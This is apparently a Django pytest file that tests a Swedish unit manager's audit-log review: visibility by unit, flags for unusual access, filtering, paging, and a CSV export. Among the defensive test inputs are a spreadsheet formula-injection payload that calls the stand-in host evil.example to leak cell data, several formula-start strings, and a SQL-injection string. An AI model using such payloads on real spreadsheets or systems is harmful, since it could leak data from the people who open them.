"""The unit manager's log review (loggkontroll): who sees what, flags, paging and CSV export."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from brygga.audit.log import record
from brygga.audit.models import Action, AuditEvent
from brygga.lib.spreadsheet import guard as safe_cell
from brygga.organisation.models import Role
from tests.conftest import signed_in
from tests.factories import CaseFactory, PersonFactory, UnitFactory, staff_member

pytestmark = pytest.mark.django_db

URL = reverse("log_review")
EXPORT = reverse("log_review_export")


def _opened(cast, user, case=None):
    """What case_view writes when `user` opens `case` (or the cast's case)."""
    case = case or cast.case
    return record(
        None,
        Action.VIEW,
        user=user,
        person_id=case.person_id,
        obj=case,
        detail={"owning_unit": case.owning_unit_id},
    )


def _ids(response):
    """The events listed, less the reviewing manager's own (their login, earlier reviews)."""
    me = response.wsgi_request.user.pk
    return {row.event.pk for row in response.context["rows"] if row.event.user_id != me}


def test_a_unit_manager_sees_what_the_unit_staff_did(cast):
    event = _opened(cast, cast.case_worker)
    response = signed_in(cast.unit_manager).get(URL)
    assert response.status_code == 200
    assert event.pk in _ids(response)
    assert "case_worker" in response.content.decode()


def test_a_unit_manager_sees_who_from_elsewhere_opened_the_units_persons(cast):
    event = _opened(cast, cast.other_district_worker)
    response = signed_in(cast.unit_manager).get(URL)
    assert event.pk in _ids(response)


def test_access_from_outside_the_owning_unit_is_flagged(cast):
    outsider = _opened(cast, cast.other_district_worker)
    insider = _opened(cast, cast.case_worker)
    rows = {r.event.pk: r.flags for r in signed_in(cast.unit_manager).get(URL).context["rows"]}
    assert rows[outsider.pk] == ["Utanför egen enhet"]
    assert rows[insider.pk] == []


def test_emergency_access_is_flagged(cast):
    event = record(
        None,
        Action.EMERGENCY_ACCESS,
        user=cast.colleague,
        person_id=cast.case.person_id,
        reason="Akut hotbild, ansvarig handläggare nås ej",
    )
    rows = {r.event.pk: r.flags for r in signed_in(cast.unit_manager).get(URL).context["rows"]}
    assert "Nödåtkomst" in rows[event.pk]


@override_settings(AUDIT_MANY_PERSONS_PER_DAY=3)
def test_a_user_opening_unusually_many_persons_in_a_day_is_flagged(cast):
    for _ in range(4):
        _opened(cast, cast.colleague, CaseFactory(owning_unit=cast.sodermalm))
    _opened(cast, cast.case_worker)
    response = signed_in(cast.unit_manager).get(URL)
    assert [(b.username, b.persons) for b in response.context["busy"]] == [("colleague", 4)]
    flagged = {r.event.username for r in response.context["rows"] if r.flags}
    assert flagged == {"colleague"}


def test_another_districts_manager_sees_none_of_it(cast):
    _opened(cast, cast.case_worker)
    _opened(cast, cast.unit_manager)
    own = _opened(cast, cast.other_district_worker, CaseFactory(owning_unit=cast.rinkeby))
    response = signed_in(cast.other_district_manager).get(URL)
    assert response.status_code == 200
    assert _ids(response) == {own.pk}
    assert "case_worker" not in response.content.decode()


def test_unit_id_matching_is_exact_not_a_prefix(cast):
    """A manager of unit 900007 must not see staff of units 9000070 or 1900007 as their own."""
    own_unit = UnitFactory(pk=900007)
    manager = staff_member(Role.MANAGER, own_unit)
    own = record(None, Action.SEARCH, user=staff_member(Role.WORKER, own_unit))
    for lookalike in (9000070, 1900007, 19000071):
        record(None, Action.SEARCH, user=staff_member(Role.WORKER, UnitFactory(pk=lookalike)))
    assert _ids(signed_in(manager).get(URL)) == {own.pk}


@pytest.mark.parametrize(
    "persona", ["case_worker", "colleague", "housing_support", "administrator"]
)
def test_anyone_but_a_unit_manager_gets_not_found(cast, persona):
    assert signed_in(getattr(cast, persona)).get(URL).status_code == 404
    assert signed_in(getattr(cast, persona)).get(EXPORT).status_code == 404


def test_filters_by_user_person_action_and_time(cast):
    old = _opened(cast, cast.case_worker)
    other_person_case = CaseFactory(owning_unit=cast.sodermalm)
    _opened(cast, cast.case_worker, other_person_case)
    _opened(cast, cast.colleague)
    record(None, Action.UPDATE, user=cast.case_worker, person_id=cast.case.person_id)
    client = signed_in(cast.unit_manager)
    response = client.get(
        URL,
        {
            "user": cast.case_worker.pk,
            "person": cast.case.person_id,
            "action": "view",
            "date_from": timezone.localdate().isoformat(),
            "date_to": timezone.localdate().isoformat(),
        },
    )
    assert _ids(response) == {old.pk}
    yesterday = (timezone.localdate() - datetime.timedelta(days=1)).isoformat()
    assert _ids(client.get(URL, {"date_to": yesterday})) == set()


def test_a_malformed_filter_gets_a_swedish_message_and_no_rows(cast):
    _opened(cast, cast.case_worker)
    response = signed_in(cast.unit_manager).get(
        URL, {"person": "19900101-1234", "date_from": "igår"}
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "Ange personens id som ett heltal." in content
    assert "Ange ett datum som ÅÅÅÅ-MM-DD." in content
    assert response.context["rows"] == []


def test_reviewing_the_log_is_itself_logged(cast):
    signed_in(cast.unit_manager).get(URL, {"person": cast.case.person_id})
    event = AuditEvent.objects.filter(user_id=cast.unit_manager.pk, action=Action.SEARCH).get()
    assert event.person_id == cast.case.person_id
    assert event.detail["log_review"]["person"] == cast.case.person_id


def test_the_review_pages_through_fifty_at_a_time(cast):
    for _ in range(55):
        _opened(cast, cast.case_worker)
    client = signed_in(cast.unit_manager)
    first = client.get(URL)
    assert len(first.context["rows"]) == 50
    assert "sida=2" in first.content.decode()
    # 55 openings, the manager's login and their review of the first page.
    assert len(client.get(URL, {"sida": 2}).context["rows"]) == 7
    assert client.get(URL, {"sida": "x' OR 1=1"}).status_code == 200


def _queries(client, url, data=None):
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url, data or {}).status_code == 200
    return len(captured)


def test_the_review_runs_the_same_number_of_queries_for_more_events(cast):
    client = signed_in(cast.unit_manager)
    for _ in range(2):
        _opened(cast, cast.case_worker)
    client.get(URL)  # warm the session and second factor
    few = _queries(client, URL)
    for _ in range(30):
        _opened(cast, cast.other_district_worker, CaseFactory(owning_unit=cast.sodermalm))
    assert _queries(client, URL) == few


def test_the_export_runs_the_same_number_of_queries_for_more_events(cast):
    client = signed_in(cast.unit_manager)
    _opened(cast, cast.case_worker)
    client.get(URL)
    few = _queries(client, EXPORT)
    for _ in range(30):
        _opened(cast, cast.other_district_worker, CaseFactory(owning_unit=cast.sodermalm))
    assert _queries(client, EXPORT) == few


def _csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_the_export_is_the_filtered_list_as_csv_and_is_itself_logged(cast):
    _opened(cast, cast.case_worker)
    _opened(cast, cast.colleague)
    response = signed_in(cast.unit_manager).get(EXPORT, {"user": cast.case_worker.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert rows[0][:2] == ["Tid", "Användare"]
    assert [row[1] for row in rows[1:]] == ["case_worker"]
    export = AuditEvent.objects.get(action=Action.EXPORT, user_id=cast.unit_manager.pk)
    assert export.detail["log_review"]["user"] == cast.case_worker.pk
    assert export.detail["rows"] == 1


def test_the_export_defuses_spreadsheet_formulas(cast):
    record(
        None,
        Action.EMERGENCY_ACCESS,
        user=cast.case_worker,
        person_id=cast.case.person_id,
        reason='=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    )
    for start in ["+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]:
        record(None, Action.EMERGENCY_ACCESS, user=cast.case_worker, reason=start)
    rows = _csv_rows(signed_in(cast.unit_manager).get(EXPORT, {"action": "emergency_access"}))
    reasons = sorted(row[7] for row in rows[1:])
    assert all(reason.startswith("'") for reason in reasons), reasons
    assert "'=HYPERLINK(" in " ".join(reasons)


@pytest.mark.parametrize("dangerous", ["=1+1", "+1", "-1+1", "@x", "\t=1", "\r=1"])
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Anna", "2026-01-01 10:00", "", None, 42, "a=b", "-1"])
def test_a_harmless_cell_is_left_alone(harmless):
    assert safe_cell(harmless) == ("" if harmless is None else str(harmless))


def test_a_malformed_export_filter_is_a_bad_request(cast):
    response = signed_in(cast.unit_manager).get(EXPORT, {"person": "abc"})
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_persons_appear_by_id_never_by_name_or_personnummer(cast):
    person = PersonFactory(identity_number="199001011234", first_name="Zelda", last_name="Qvist")
    case = CaseFactory(person=person, owning_unit=cast.sodermalm)
    _opened(cast, cast.case_worker, case)
    content = signed_in(cast.unit_manager).get(URL).content.decode()
    assert f"person={person.pk}" in content
    assert "199001011234" not in content and "19900101-1234" not in content
    assert "Zelda" not in content
